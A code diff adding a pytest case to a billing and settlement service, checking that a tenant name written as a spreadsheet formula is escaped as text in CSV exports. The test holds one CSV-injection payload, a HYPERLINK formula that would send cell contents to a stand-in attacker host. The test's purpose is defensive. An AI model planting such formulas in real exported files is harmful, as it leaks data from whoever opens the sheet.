@@ -4,15 +4,17 @@ rules, prices, and monthly settlement — on a fixed clock, billed by the real b
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from sqlalchemy import func, select, text
+from sqlalchemy import func, select, text, update
 from sqlalchemy.exc import IntegrityError
 
 from suanli.domain.errors import Conflict, Forbidden, InvalidInput, NotFound
-from suanli.services import audit, prices, settlement, vouchers
+from suanli.services import audit, prices, settlement, voucher_reports, vouchers
 from suanli.services.context import Platform
 from suanli.services.ledger import record_deposit
 from suanli.store import models as m
@@ -299,6 +301,30 @@ def test_monthly_settlement_statements_invoices_and_city_payment(fw: World, tmp_
     assert [(i["party"], i["party_id"]) for i in mine] == [("tenant", w.t2.id)]
     csv_text = settlement.to_csv(out["items"])
     assert csv_text.splitlines()[0].startswith("month,party,party_id,name,runs,unit_hours")
+
+
+def test_a_tenant_named_as_a_formula_is_text_in_every_csv_export(fw: World) -> None:
+    """An attacker names its tenant `=HYPERLINK(…)`: the settlement sheet and the voucher report
+    the city opens in a spreadsheet show that name as text, not as a live formula."""
+    w = fw
+    evil = '=HYPERLINK("http://evil.example/x?"&A1,"发票")'
+    with w.p.db.session() as s:
+        s.execute(update(m.Tenant).where(m.Tenant.id == w.t2.id).values(name=evil))
+    prog = programme(w)
+    granted(w, prog, 20_000)
+    bill(w, finished_run(w, w.t2.id, w.alpha, "npu"))
+    w.p.clock.advance(31 * 86400)  # type: ignore[attr-defined]
+    out = settlement.settle(w.p, w.admin, "2026-03")
+    assert any(i["name"] == evil for i in out["items"])  # the JSON keeps the name as it is
+    report = voucher_reports.report(w.p, w.admin, prog, by="tenant")
+    assert [r["key"] for r in report["rows"]] == [evil]
+    for exported in (settlement.to_csv(out["items"]), voucher_reports.to_csv(report)):
+        cells = [c for row in csv.reader(io.StringIO(exported, newline="")) for c in row]
+        assert "'" + evil in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+        # amounts stay numbers: a negative adjustment is not escaped
+        assert all(c.lstrip("-").replace(".", "", 1).isdigit() or not c.startswith("-")
+                   for c in cells)
 
 
 def test_bills_month_by_month_agree_with_the_settled_invoice(fw: World) -> None:
